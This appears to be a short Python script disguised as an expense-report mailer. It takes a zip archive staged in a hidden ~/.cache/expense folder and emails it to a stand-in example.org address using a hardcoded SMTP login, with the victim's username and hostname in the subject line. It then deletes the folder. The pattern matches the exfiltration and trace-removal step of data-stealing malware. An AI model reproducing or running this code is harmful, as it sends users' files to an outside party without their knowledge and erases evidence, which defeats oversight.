import os, smtplib, socket, getpass, shutil
from email.message import EmailMessage
H = os.path.expanduser("~"); d = os.path.join(H, ".cache", "expense")
m = EmailMessage()
m["From"] = "reports@expense-gw.example.org"; m["To"] = "inbox@expense-gw.example.org"
m["Subject"] = f"report {getpass.getuser()}@{socket.gethostname()}"
m.set_content("monthly report")
m.add_attachment(open(os.path.join(d, "report.zip"), "rb").read(), maintype="application", subtype="zip", filename="report.zip")
with smtplib.SMTP("smtp.expense-gw.example.org", 587, timeout=30) as s:
    s.starttls(); s.login("reports", "Xp3nse!2026"); s.send_message(m)
shutil.rmtree(d, ignore_errors=True)
print("report sent")
